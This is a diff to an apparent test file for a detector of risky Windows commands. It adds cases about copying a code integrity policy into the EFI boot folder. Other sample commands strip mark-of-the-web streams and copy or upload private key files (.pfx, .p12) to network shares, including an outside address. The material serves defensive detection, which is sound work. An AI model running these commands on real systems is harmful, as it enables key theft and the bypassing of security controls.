@@ -37,6 +37,8 @@ def found(report: Report | None) -> list[str]:
         ),
         ("type nul > a.exe:Zone.Identifier", ["mark_of_web_removed"]),
         ("type nul > a.exe:other", []),
+        ("copy D:\\p\\SiPolicy.p7b S:\\EFI\\Microsoft\\Boot\\", ["code_integrity_policy"]),
+        ("copy D:\\p\\chain.p7b S:\\EFI\\other\\", []),
         ("robocopy C:\\work\\certs D:\\x *.p12 /e", ["copy_key_files"]),
         ("robocopy C:\\w \\\\198.51.100.7\\in *.pfx", ["key_to_outside", "key_to_share", "upload_key_file"]),
         ("robocopy C:\\w \\\\10.0.0.7\\in *.pfx", ["copy_key_files", "key_to_bare_address", "key_to_share"]),
